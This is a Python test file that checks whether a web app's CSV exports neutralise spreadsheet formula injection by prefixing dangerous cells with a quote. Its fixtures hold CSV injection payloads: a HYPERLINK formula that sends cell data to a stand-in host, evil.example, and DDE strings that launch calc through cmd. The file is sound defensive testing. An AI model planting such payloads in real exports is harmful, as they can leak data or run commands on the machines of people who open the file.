"""CSV exports over HTTP guard spreadsheet formulas (issue 13 item 6), on SQLite and PostgreSQL.

An organisation name or an audited code that starts with ``=``, ``+``, ``-`` or ``@`` is written
with a leading ``'``, so a spreadsheet shows it instead of running it; numbers stay numbers, and
an exported file imports back to the same values.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from api.app import create_app
from api.cli import load_demo
from api.services.rounds import Actor, audit
from api.settings import Settings
from fixtures.generate import generate_region, write_region
from store import models as m
from store.db import unit_of_work

NAMES = {
    "ORG-F1": '=HYPERLINK("http://evil.example/?"&A1;"klik")',
    "ORG-F2": "+1+cmd|' /C calc'!A0",
    "ORG-F3": "-2+3",
    "ORG-F4": "@SUM(1;2)",
    "-5": "gewone naam",  # a code that is a number is no formula
}


@pytest.fixture
def client(db_url: str, tmp_path: Path) -> Iterator[TestClient]:
    folder = tmp_path / "region"
    write_region(generate_region(20, 30, seed=5), folder)
    load_demo(db_url, folder)
    with TestClient(create_app(Settings(database_url=db_url))) as client:
        yield client


def _admin(client: TestClient, factory: sessionmaker[Session]) -> tuple[dict[str, str], m.User]:
    with factory() as s:
        user = s.scalars(select(m.User).where(m.User.role == "admin")).first()
        assert user is not None
    response = client.post("/api/v1/auth/token", json={"email": user.email, "password": "demo"})
    assert response.status_code == 200, response.text
    return {"Authorization": f"Bearer {response.json()['access_token']}"}, user


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_organisation_export_guards_formulas_and_reimports(
    client: TestClient, session_factory: sessionmaker[Session]
) -> None:
    admin, _ = _admin(client, session_factory)
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=";", lineterminator="\n")  # a hand-made file
    writer.writerow(["code", "name", "kind"])
    writer.writerows([code, name, "corporatie"] for code, name in NAMES.items())
    text = buffer.getvalue()
    files = {"file": ("o.csv", text.encode(), "text/csv")}
    assert (
        client.post("/api/v1/imports/organisations", files=files, headers=admin).status_code == 200
    )

    exported = client.get("/api/v1/exports/organisations", headers=admin)
    assert exported.status_code == 200
    names = {r[0]: r[1] for r in _rows(exported.text)[1:]}
    assert names["ORG-F1"] == "'" + NAMES["ORG-F1"]
    assert names["ORG-F2"] == "'" + NAMES["ORG-F2"]
    assert names["ORG-F3"] == "'-2+3"
    assert names["ORG-F4"] == "'@SUM(1;2)"
    assert names["-5"] == "gewone naam"  # the code -5 is a number: written as it is
    assert all(not cell.startswith(("=", "+", "@")) for r in _rows(exported.text) for cell in r)

    # the exported file imports back to the very same names
    again = {"file": ("o.csv", exported.content, "text/csv")}
    assert (
        client.post("/api/v1/imports/organisations", files=again, headers=admin).status_code == 200
    )
    with session_factory() as s:
        stored = {
            code: name
            for code, name in s.execute(
                select(m.Organisation.code, m.Organisation.name).where(
                    m.Organisation.code.in_(list(NAMES))
                )
            )
        }
    assert stored == NAMES


def test_audit_export_guards_formulas(
    client: TestClient, session_factory: sessionmaker[Session]
) -> None:
    admin, user = _admin(client, session_factory)
    with unit_of_work(session_factory) as session:
        actor = Actor(user.id, user.organisation_id, "admin")
        audit(session, actor, "youth.read", "youth", "=cmd|' /C calc'!A0", {"view": "x"})
    exported = client.get("/api/v1/audit/export", headers=admin)
    assert exported.status_code == 200
    ids = [r[6] for r in _rows(exported.text)[1:]]
    assert "'=cmd|' /C calc'!A0" in ids
    assert not any(i.startswith("=") for i in ids)


def test_supply_tables_guard_text_but_keep_numbers() -> None:
    from api.services.supply import rows_csv

    text = rows_csv([{"cell": "=HYPERLINK(1)", "type": "@kma", "shortfall": -5, "mean": "-2.5"}])
    assert _rows(text) == [
        ["cell", "type", "shortfall", "mean"],
        ["'=HYPERLINK(1)", "'@kma", "-5", "-2.5"],
    ]
